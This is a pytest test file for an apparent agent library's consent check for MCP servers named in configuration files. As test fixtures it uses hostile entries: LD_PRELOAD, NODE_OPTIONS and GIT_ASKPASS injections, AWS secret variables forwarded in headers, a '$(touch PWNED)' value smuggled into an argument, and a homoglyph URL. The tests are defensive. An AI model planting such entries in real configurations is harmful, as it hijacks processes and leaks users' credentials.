"""A file's servers are shown and approved, once for each content, before they start: the law and its edges."""

import json
import re
import sys
import threading
from pathlib import Path

import pytest
from IPython.core.error import UsageError
from patience import join
from shells import new_shell

from test_mcp.peers import light
from toolbench.agent import Agent, Conversation
from toolbench.errors import ConsentError, ServerError, ToolbenchError
from toolbench.llm.models import ScriptedModel
from toolbench.mcp import MCPClient, create_mcp_tools
from toolbench.mcp.config.discovery import discover
from toolbench.runs.questions import answering

SECURITY = (Path(__file__).parents[3] / "SECURITY.md").read_text("utf-8")


@pytest.fixture(autouse=True)
def project(tmp_path, monkeypatch):
    """A cloned project as the current folder, and a user who has approved nothing."""
    folder = tmp_path / "project"
    folder.mkdir()
    monkeypatch.chdir(folder)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    (tmp_path / "home").mkdir()
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return folder


class Person:
    """A person at a terminal, who gives the same answer to each question."""

    def __init__(self, monkeypatch):
        self.questions = []
        self.answer = "n"
        monkeypatch.setattr("sys.stdin.isatty", lambda: True, raising=False)
        monkeypatch.setattr("builtins.input", self._asked)

    def _asked(self, prompt):
        self.questions.append(prompt.replace("\n    | ", ""))
        return self.answer


@pytest.fixture
def person(monkeypatch):
    return Person(monkeypatch)


def written(*, file=".mcp.json", **servers):
    """A configuration file with *servers*."""
    Path(file).write_text(json.dumps({"mcpServers": servers}))
    return file


def hostile():
    """An entry that shows whether it was started."""
    return {"command": "touch", "args": ["PWNED"]}


def in_a_cell(line):
    with new_shell() as shell:
        shell.run_line_magic("load_ext", "toolbench")
        try:
            shell.run_line_magic("mcp", line)
        finally:
            shell.run_line_magic("unload_ext", "toolbench")


def add(file, **settings):
    with MCPClient() as client:
        client.add(file, **settings)


def connect_what_is_found():
    (found,) = discover()
    with MCPClient() as client:
        client.connect(found.name, found.entry)


def converse(file):
    with Conversation(agent=Agent(ScriptedModel(["Hello."]), mcp_config=file)) as conversation:
        conversation.send_message("Hello")
        conversation.run()


WAYS = {
    "%mcp connect --config FILE": lambda file: in_a_cell(f"connect --config {file}"),
    "%mcp connect FILE.json": lambda file: in_a_cell(f"connect {file}"),
    "create_mcp_tools(FILE)": create_mcp_tools,
    "client.add(FILE)": add,
    "client.connect(NAME, found.entry)": lambda file: connect_what_is_found(),
    "Agent(mcp_config=FILE)": converse,
}


@pytest.mark.every_case
@pytest.mark.parametrize("way", WAYS)
def test_nothing_starts_unseen_in_any_way(way):
    """Each way that SECURITY.md names refuses what nobody approved, and says what it is and what to do."""
    file = written(evil=hostile())
    with answering(True), pytest.raises(ConsentError) as refused:
        WAYS[way](file)
    assert not Path("PWNED").exists()
    text = str(refused.value).replace("\n    | ", "")
    assert "evil:\n    starts touch PWNED\n    in the folder " in text
    assert "--approve" in text
    assert f"create_mcp_tools({str(Path(file).absolute())!r}, approve=True)" in text


def test_security_md_names_the_ways_that_are_tested():
    """The promise and its list are in SECURITY.md, and no other way is named there."""
    assert "an unknown entry is shown and has to be approved before it starts" in SECURITY
    ways, _, _ = SECURITY.partition("## Configuration files")[2].partition("`%load_ext")
    assert set(re.findall(r"`([^`]*)`", ways)) - {"discover()"} == set(WAYS)


def test_is_asked_once_for_each_content(person):
    """A yes counts for the content, also of another file; other keys may change, programs may not."""
    entry = light("one", "x", "--token", "secret")
    person.answer = "y"
    add(written(one=entry))
    add(written(two={**entry, "timeout": 9000, "description": "new"}, file="copy.json"))
    assert len(person.questions) == 1
    assert person.questions[0].endswith("Connect these servers? [y/N] ")

    person.answer = "n"
    for change in (
        {"args": [*entry["args"], "y"]},
        {"args": [*entry["args"][:-1], "other"]},
        {"command": "python3"},
        {"cwd": ".."},
        {"env": {"LD_PRELOAD": "./evil.so"}},
        {"env": {"GIT_ASKPASS": "./evil"}},
        {"env": {"API_KEY": "${AWS_SECRET_ACCESS_KEY}"}},
    ):
        with pytest.raises(ConsentError, match="you declined"):
            add(written(one={**entry, **change}))
    assert "LD_PRELOAD=./evil.so" in person.questions[5]
    assert "GIT_ASKPASS=./evil" in person.questions[6]
    assert "passes on your variables AWS_SECRET_ACCESS_KEY" in person.questions[7]
    assert "Then it had in place of this:\n    starts" in person.questions[1]
    assert all(f"python3 {entry['args'][0]}" not in q for q in person.questions[:1])


def test_a_file_of_variables_is_part_of_the_content(person):
    """Its variables are shown as those of the entry are, and what changes there is asked about again."""
    entry = {**light("one", "x"), "envFile": ".env"}
    file = written(one=entry)
    variables = Path(".env")
    variables.write_text("API_TOKEN='Bearer abcdef123'\nMODE=${TEST}\n")
    with pytest.raises(ConsentError):
        add(file)
    (question,) = person.questions
    assert f"with the variables of the file {variables.absolute()}\n" in question
    assert "with 'API_TOKEN=Bearer <secret-hidden>' 'MODE=${TEST}'\n" in question
    person.answer = "y"
    add(file)
    variables.write_text("API_TOKEN='Bearer another456'\nMODE=${TEST}\n")
    add(file)
    assert len(person.questions) == 2

    def replaced(prompt):
        variables.write_text("LD_PRELOAD=./evil.so\n")
        return "y"

    variables.write_text("NODE_OPTIONS=--require=./evil.js\n")
    person.answer = "n"
    with pytest.raises(ConsentError):
        add(file)
    assert "NODE_OPTIONS=--require=./evil.js" in person.questions[2]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("builtins.input", replaced)
        with MCPClient() as client:
            (session,) = client.add(file)
            client.reconnect("one")
            assert "LD_PRELOAD" not in session.entry.expanded({}).env


def test_only_what_is_chosen_is_asked_about(person):
    """`only` asks about the servers that it names."""
    person.answer = "y"
    file = written(one=light("one", "x"), evil=hostile())
    add(file, only=["one"])
    assert "touch" not in person.questions[0]


def test_own_words_are_not_asked_about(monkeypatch):
    """A mapping in code, and a command on the line; `approve` says it in the same line, for good."""
    add({"mcpServers": {"one": light("one", "x")}})
    in_a_cell(f"connect one -- {sys.executable} {' '.join(light('one', 'x')['args'])}")
    file = written(one=light("one", "x"))
    with pytest.raises(ConsentError, match="nobody can be asked"):
        add(file)
    in_a_cell(f"connect --config {file} --approve")
    add(file)
    monkeypatch.setenv("XDG_STATE_HOME", str(Path("of-another-user").absolute()))
    add(file, approve=True)
    with pytest.raises(UsageError, match="--approve is for the servers of a file"):
        in_a_cell("connect one http://127.0.0.1:9/mcp --approve")


def test_variables_that_go_to_an_address_are_named(person, monkeypatch):
    """In a header and in the address; and nothing is sent before the yes."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI")
    address = "http://127.0.0.1:9/${env:FIRST}"
    many = " ".join(f"${{A{number}:-x}}" for number in range(1000))
    entry = {
        "url": address,
        "headers": {
            "Many": many,
            "X-A": "${env:AWS_SECRET_ACCESS_KEY}",
            "Authorization": "Bearer abcdef123",
        },
    }
    with pytest.raises(ConsentError):
        add(written(docs=entry))
    assert "AWS_SECRET_ACCESS_KEY, FIRST" in discover()[0].summary
    (question,) = person.questions
    assert "SENDS YOUR VARIABLES AWS_SECRET_ACCESS_KEY, A0, " in question
    assert f"FIRST to {address}" in question
    assert "abcdef123" not in question
    assert "wJalrXUtnFEMI" not in question


@pytest.mark.every_case
@pytest.mark.parametrize(
    ("entry", "shown"),
    [
        ({"command": "sh", "args": ["a\nOK:\r", "\u202eb\x1b[2J"]}, "a⟨U+000A⟩OK:^M"),
        ({"command": "sh", "args": ["a" * 100_000]}, "98,0"),
        ({"command": "python", "args": ["token=evil.py"]}, "starts python token=evil.py\n"),
        ({"command": "echo", "args": ["evil"], "env": {"TOKEN": "evil"}}, "starts echo evil\n"),
        ({"url": "https://\u0430pple.com/mcp"}, "https://⟨U+0430⟩pple.com/mcp"),
        (
            {"url": "http://x", "auth": {"issuer": "http://evil", "client_secret": "${AWS_KEY}"}},
            "SENDS YOUR VARIABLES AWS_KEY to http://x or http://evil",
        ),
        ({"server": "evil.py:mcp"}, "runs the Python code evil.py:mcp in this process"),
        # They look like secrets, and could be code
        (
            {"command": "sh", "args": ["-c", "--token=$(touch\u00a0PWNED)"]},
            "neither shown nor hidden",
        ),
        (
            {"command": "x", "env": {"DBUS_SESSION": "unixexec:path=/bin/sh"}},
            "in DBUS_SESSION that",
        ),
        ({"command": "x", "cwd": ["."]}, "'cwd' must be a str"),
    ],
)
def test_hostile_text_hides_nothing(person, entry, shown):
    """It makes no line of its own, no mark hides code, and what is left out is counted."""
    Path("token=evil.py").touch()
    with pytest.raises(ToolbenchError) as refused:
        add(written(one=entry))
    seen = "".join([*person.questions, str(refused.value)])
    assert all(
        re.match(r"The|Server|one:|    |Your approval|Type|Connect", line)
        for line in seen.splitlines()
    )
    assert shown in seen
    # Of what is cut, the person can read the whole
    assert ("Type all to see the whole" in seen) == (shown == "98,0")
    assert "\x1b" not in seen
    assert "\nOK:" not in seen


def test_many_servers_are_not_approved_in_one_question(person):
    """Nobody reads a thousand entries: the person chooses some, or says --approve."""
    servers = {f"s{number}": {**hostile(), "cwd": str(number)} for number in range(1000)}
    with pytest.raises(ConsentError, match=r"1,000 servers .* Choose at most 20 by name"):
        add(written(**servers))
    assert not person.questions


def test_what_starts_is_what_was_shown(person, project, monkeypatch):
    """A file that is replaced during the question, or another current folder later, starts nothing else."""
    file = written(one=light("one", "x"))
    sibling = project.parent / "elsewhere"
    sibling.mkdir()

    def replaced(prompt):
        written(one=hostile())
        return "y"

    monkeypatch.setattr("builtins.input", replaced)
    with MCPClient() as client:
        (session,) = client.add(file)
        monkeypatch.chdir(sibling)
        client.reconnect("one")
        assert [tool.name for tool in session.tools] == ["x"]
        assert Path(f"/proc/{session.connection.pid}/cwd").resolve() == project
    assert not list(project.parent.rglob("PWNED"))


def test_an_openapi_document_leads_nowhere_else_later(person, monkeypatch):
    """The address that a document in a file named at the question stays, whatever the file says later."""
    document = {"openapi": "3.1.0", "info": {"title": "p", "version": "1"}, "paths": {}}
    where = "http://127.0.0.1:9"
    Path("api.json").write_text(json.dumps({**document, "servers": [{"url": where}]}))
    monkeypatch.setenv("PLACE", str(Path.cwd()))
    with pytest.raises(ConsentError, match="you declined"):
        add(
            written(
                a={"openapi": "${PLACE}/api.json"}, b={"openapi": "${workspaceFolder}/api.json"}
            )
        )
    assert person.questions[-1].count(f"connects to {where}\n") == 2
    Path("b.json").write_text(json.dumps({**document, "servers": [{"url": f"{where}/${{HOME}}"}]}))
    with pytest.raises(ServerError, match=r"has \$\{, which is not filled in: set 'base_url'"):
        add(written(api={"openapi": "b.json"}), approve=True)
    file = written(api={"openapi": "api.json", "headers": {"X": "${HOME}"}})
    person.answer = "y"
    with create_mcp_tools(file) as client:
        assert f"SENDS YOUR VARIABLES HOME to {where}" in person.questions[-1]
        assert client.servers["api"].entry.server["base_url"] == where
    with pytest.raises(ServerError, match=f"'far' .*{where}"):
        add(written(far={"openapi": f"{where}/api.json"}))
    assert f"{where}/api.json" in person.questions[-1]
    person.answer = "n"
    far = "https://x.test/${HOME}?api_key=sk-very-secret-1"
    with pytest.raises(ConsentError, match="you declined"):
        add(written(far={"openapi": far, "base_url": where}))
    assert (
        f"SENDS YOUR VARIABLES HOME to {where} or https://x.test/${{HOME}}" in person.questions[-1]
    )
    assert "sk-very-secret-1" not in person.questions[-1]


def test_two_processes_lose_no_approval_and_no_file_approves_another():
    """Each content has a file of its own, which only the user can read; a broken one approves nothing."""
    files = [written(file=f"{n}.json", **{f"s{n}": light(f"s{n}", "x")}) for n in range(3)]
    threads = [threading.Thread(target=add, args=(f,), kwargs={"approve": True}) for f in files]
    for thread in threads:
        thread.start()
    for thread in threads:
        join(thread)
    kept = sorted(Path("../state/toolbench/approved-configurations").iterdir())
    assert [oct(path.stat().st_mode & 0o777) for path in kept] == ["0o600"] * 3
    for path, broken in zip(kept, ["{", "[]", kept[0].read_text()], strict=True):
        path.write_text(broken)
    for file in files:
        with pytest.raises(ConsentError, match="never approved here"):
            add(file)


@pytest.mark.slow
def test_a_person_is_asked_in_the_cell(project, shared_kernel):
    """In a kernel: the question is in the cell, the yes is kept, and without input it is refused."""
    kernel, file = shared_kernel, str(project / written(one=light("one", "x")))
    kernel.run("%load_ext toolbench")
    raised, text = kernel.outcome(f"%mcp connect --config {file}")
    assert raised
    assert "nobody can be asked" in text
    # The answer is there at once, as no person's is
    kernel.run("from toolbench.runs import input_prompt; soon = input_prompt.TOO_SOON")
    kernel.run("input_prompt.TOO_SOON = 0")
    [prompt], _ = kernel.answer(f"%mcp connect --config {file}", "y")
    assert "Connect these servers? [y/N]" in prompt
    assert f"one:\n    starts {sys.executable} " in prompt
    assert "connected" in kernel.outcome(f"%mcp connect --config {file}")[1]
    kernel.run("input_prompt.TOO_SOON = soon")
